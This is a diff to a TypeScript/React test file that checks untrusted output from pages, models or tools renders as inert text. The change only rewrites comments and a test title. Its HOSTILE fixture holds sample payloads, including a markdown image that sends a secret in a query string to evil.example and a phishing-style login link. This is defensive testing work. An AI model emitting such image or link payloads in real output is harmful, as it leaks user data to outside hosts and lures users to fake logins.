@@ -11,7 +11,7 @@ import type { ToolFact } from '../../server/catalog/tool-facts';
 import { tools } from '../../server/tools/registry';
 import { Versions } from '../../server/versions/versions';
 
-/** What a page, a model or another's tool may say so that whoever looks at it asks somebody else, or runs something. */
+/** Output that would make a browser load another address, or run something. */
 const HOSTILE = [
   '![x](https://evil.example/a.png?secret=1)',
   '[Claim your credit](https://evil.example/login)',
@@ -26,7 +26,7 @@ const HOSTILE = [
 ];
 const TEXT = HOSTILE.join('\n');
 
-/** What of a page asks an address or runs: nothing of it may come from a stranger's words. */
+/** The elements and attributes that load an address or run something: untrusted text may make none. */
 function whatActs(element: ReactElement): string[] {
   const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
   return [...document.querySelectorAll('main *')].flatMap((each) => {
@@ -59,7 +59,7 @@ function whatActs(element: ReactElement): string[] {
   });
 }
 
-describe('what a stranger wrote is text, asks nobody and runs nothing', () => {
+describe('untrusted output is shown as text, loads no address and runs nothing', () => {
   const now = new Date().toISOString();
   const cases: [string, ReactElement][] = [
     [
